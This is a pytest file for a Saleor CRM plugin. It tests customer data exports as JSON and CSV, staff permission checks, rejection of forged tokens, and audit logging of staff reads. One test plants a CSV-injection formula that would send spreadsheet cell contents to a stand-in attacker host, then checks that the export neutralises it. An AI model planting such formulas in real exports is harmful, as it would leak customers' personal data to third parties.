"""The data-subject export (staff API, the CSV form, the Dashboard widget's download) and the
audit of staff reads of a customer's record, through HTTP on PostgreSQL."""

import base64
import csv
import io
import json

import pytest

from saleor_crm_plugin.audit.models import AuditEvent
from saleor_crm_plugin.host import MANAGE_USERS
from tests.graphql.conftest import make_user

from .conftest import EMAIL, FIRST, LAST, STREET_1

pytestmark = pytest.mark.django_db

EXPORT = """mutation($id: ID!) {
  crmCustomerDataExport(customerId: $id) { data errors { field code message } } }"""
CUSTOMER = """query($id: ID!) { crmCustomer(id: $id) { orderCount } again: crmCustomer(id: $id) {
  points { available } } }"""
TRAIL = """{ crmAuditTrail(first: 10, actions: [CUSTOMER_VIEWED, CUSTOMER_DATA_EXPORTED]) {
  totalCount edges { node { action actorId customerId customerEmail } } } }"""
WIDGET = "/plugins/global/saleor.crm/dashboard/widget/customer"


@pytest.fixture
def staff(db):
    return make_user("staff@example.com", staff=True, permissions=[MANAGE_USERS])


def _graphql(client, query, variables, token):
    response = client.post(
        "/graphql/",
        data=json.dumps({"query": query, "variables": variables}),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )
    assert response.status_code == 200, response.content
    return response.json()


def _user_id(user) -> str:
    return base64.b64encode(f"User:{user.pk}".encode()).decode()


def test_staff_export_everything_held_about_a_customer(client, person, staff):
    # when
    answer = _graphql(client, EXPORT, {"id": _user_id(person.user)}, staff.api_token)

    # then: the CRM's rows of every domain and the store's personal data
    result = answer["data"]["crmCustomerDataExport"]
    assert result["errors"] == []
    data = json.loads(result["data"])
    assert data["format"] == "saleor-crm/data-subject-export/1"
    assert data["customer"]["id"] == person.profile.pk
    account = data["store"]["account"]
    assert (account["email"], account["first_name"], account["last_name"]) == (EMAIL, FIRST, LAST)
    assert sorted(data["store"]["orders"]) == person.order_ids
    assert [row["order_id"] for row in data["orders"]] == person.order_ids
    assert data["orders"][0]["lines"][0]["sku"] == "TEA-1"
    assert [row["currency"] for row in data["spend"]] == ["JPY"]
    assert data["rank"]["code"] == data["rank_history"][-1]["to_code"]
    assert (
        sum(row["points"] for row in data["points"]["entries"])
        == data["points"]["account"]["total"]
    )
    assert len(data["points"]["lots"]) == 3  # two orders' and a staff adjustment's
    [subscription] = data["subscriptions"]
    assert subscription["shipping_address"]["streetAddress1"] == STREET_1
    assert subscription["lines"][0]["quantity"] == 2
    assert len(subscription["cycles"]) == 3
    assert subscription["events"][0]["kind"] == "created"
    assert len(data["campaigns"]["entries"]) == 1
    assert [row["reason"] for row in data["campaigns"]["sends"]] == ["smtp:550"]
    assert len(data["campaigns"]["webhook_deliveries"]) == 1
    assert data["package_inserts"][0]["inserts"][0]["code"] == "WELCOME"
    # the export itself is in the trail it exports
    assert [row["action"] for row in data["audit"]] == [
        "points_adjusted",
        "points_adjusted",
        "rank_pinned",
        "customer_data_exported",
    ]
    event = AuditEvent.objects.get(action=AuditEvent.CUSTOMER_DATA_EXPORTED)
    assert (event.actor, event.profile_id, event.detail) == (
        f"staff:{staff.pk}",
        person.profile.pk,
        {"format": "json"},
    )


def test_an_unknown_customer_gets_an_error_and_no_audit_row(client, staff):
    # when
    answer = _graphql(client, EXPORT, {"id": _user_id(staff) + "x"}, staff.api_token)

    # then
    result = answer["data"]["crmCustomerDataExport"]
    assert result["data"] is None
    assert len(result["errors"]) == 1
    assert (result["errors"][0]["field"], result["errors"][0]["code"]) == (
        "customerId",
        "NOT_FOUND",
    )
    assert not AuditEvent.objects.exists()


def test_only_staff_with_manage_users_export(client, person):
    # given
    clerk = make_user("clerk@example.com", staff=True, permissions=[])

    # when
    answers = [
        _graphql(client, EXPORT, {"id": _user_id(person.user)}, token)
        for token in (clerk.api_token, person.user.issue_token())
    ]

    # then
    for answer in answers:
        assert answer["data"]["crmCustomerDataExport"] is None
        assert answer["errors"][0]["extensions"]["exception"]["code"] == "PermissionDenied"
    assert not AuditEvent.objects.filter(action=AuditEvent.CUSTOMER_DATA_EXPORTED).exists()


def test_the_csv_form_is_section_field_value_rows_with_formulas_neutralised(client, person, staff):
    # given: a customer who named themself a formula (customers set their own names)
    person.user.first_name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    person.user.save()

    # when
    response = client.post(
        "/export/customer-data.csv",
        data=json.dumps({"customer": _user_id(person.user)}),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {staff.api_token}",
    )

    # then
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        f'attachment; filename="customer-{person.profile.pk}-data.csv"'
    )
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["section", "field", "value"]
    cells = {(section, field): value for section, field, value in rows[1:]}
    assert cells[("store", "account.first_name")] == "'" + person.user.first_name
    assert cells[("store", "account.email")] == EMAIL
    assert cells[("orders", "0.lines.0.sku")] == "TEA-1"
    assert cells[("subscriptions", "0.shipping_address.streetAddress1")] == STREET_1
    assert AuditEvent.objects.get(action=AuditEvent.CUSTOMER_DATA_EXPORTED).detail == {
        "format": "csv"
    }


def test_the_widget_downloads_the_export_with_dashboards_token(client, person, staff):
    # given: the widget renders the download forms, posting the token in the body
    html = client.post(
        WIDGET, {"customerId": _user_id(person.user), "accessToken": staff.api_token}
    ).content.decode()
    assert 'action="/plugins/global/saleor.crm/export/customer-data.json"' in html
    assert 'id="crm-export-csv"' in html

    # when: staff press "Download (JSON)"
    response = client.post(
        "/plugins/global/saleor.crm/export/customer-data.json",
        {"customerId": _user_id(person.user), "accessToken": staff.api_token},
    )

    # then
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert json.loads(response.content)["store"]["account"]["email"] == EMAIL
    forged = client.post(
        "/plugins/global/saleor.crm/export/customer-data.json",
        {"customerId": _user_id(person.user), "accessToken": "forged"},
    )
    assert forged.status_code == 401
    assert forged.json()["errors"][0]["field"] == "token"


def test_staff_reads_are_audited_once_a_request_and_listed(client, person, staff):
    # when: two requests, the first naming the customer twice; then the widget's load
    for _ in range(2):
        answer = _graphql(client, CUSTOMER, {"id": _user_id(person.user)}, staff.api_token)
        assert answer["data"]["crmCustomer"]["orderCount"] == 2
    client.post(WIDGET, {"customerId": _user_id(person.user), "accessToken": staff.api_token})

    # then: one row a read, in the audit list staff already have
    events = AuditEvent.objects.filter(action=AuditEvent.CUSTOMER_VIEWED)
    assert events.count() == 3
    assert set(events.values_list("actor", "profile_id")) == {
        (f"staff:{staff.pk}", person.profile.pk)
    }
    trail = _graphql(client, TRAIL, {}, staff.api_token)["data"]["crmAuditTrail"]
    assert trail["totalCount"] == 3
    node = trail["edges"][0]["node"]
    assert node["action"] == "CUSTOMER_VIEWED"
    assert node["actorId"] == _user_id(staff)
    assert (node["customerId"], node["customerEmail"]) == (_user_id(person.user), EMAIL)
